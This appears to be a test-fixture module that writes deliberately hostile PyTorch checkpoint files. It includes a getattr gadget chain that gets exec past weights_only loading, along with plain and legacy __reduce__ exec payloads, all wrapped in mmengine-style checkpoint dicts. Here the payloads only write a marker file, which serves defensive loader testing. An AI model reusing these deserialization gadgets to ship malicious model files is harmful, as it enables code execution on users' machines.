"""Hostile checkpoint files for the loading tests: each writes a marker file if any of it is executed.

- ``getattr_gadget``: only ``builtins.getattr`` beyond torch's own allow-list: it swaps the ``torch`` global of
  ``torch._utils`` for OrderedDicts whose ``nn.Parameter`` is ``exec``, then calls ``_rebuild_parameter``
  (allowed by torch) on the payload source. Runs under ``weights_only=True`` once getattr is allow-listed.
- ``reduce``: a plain ``__reduce__`` calling ``exec``.
- ``legacy``: the ``__reduce__`` payload in torch's legacy (non-zip) format.
Each payload sits inside an mmengine-like checkpoint dict (``meta`` / ``state_dict``).
"""
from __future__ import annotations

import builtins
import collections
from typing import Callable, Dict

import torch

KINDS = ("getattr_gadget", "reduce", "legacy")


def _payload(marker: str) -> str:
    return f"open({marker!r}, 'w').write('ran')"


class _Reduce:
    """Pickles as ``func(*args)``, with optional BUILD state and SETITEMS items."""

    def __init__(self, func: Callable, args: tuple, state=None, items=None) -> None:
        self.func, self.args, self.state, self.items = func, args, state, items

    def __reduce__(self):
        return self.func, self.args, self.state, None, iter(self.items) if self.items else None


def getattr_gadget(marker: str) -> object:
    """[globals swap, payload call]: unpickled in order, the second runs exec(payload) through torch._utils."""
    builtins_module = _Reduce(getattr, (getattr, "__self__"))
    exec_fn = _Reduce(getattr, (builtins_module, "exec"))
    fake_nn = _Reduce(collections.OrderedDict, (), state={"Parameter": exec_fn})
    fake_torch = _Reduce(collections.OrderedDict, (), state={"nn": fake_nn})
    swap = _Reduce(getattr, (torch._utils._rebuild_parameter, "__globals__"), items=[("torch", fake_torch)])
    call = _Reduce(torch._utils._rebuild_parameter, (_payload(marker), {}, None))
    return [swap, call]


def reduce_payload(marker: str) -> object:
    return _Reduce(builtins.exec, (_payload(marker),))


def write(kind: str, path: str, marker: str) -> str:
    """Write the hostile checkpoint ``kind`` (one of KINDS) to ``path``; returns ``path``."""
    payload = getattr_gadget(marker) if kind == "getattr_gadget" else reduce_payload(marker)
    checkpoint: Dict[str, object] = {"meta": {"iter": 1}, "state_dict": {"w": torch.zeros(1)}, "payload": payload}
    torch.save(checkpoint, path, _use_new_zipfile_serialization=kind != "legacy")
    return path
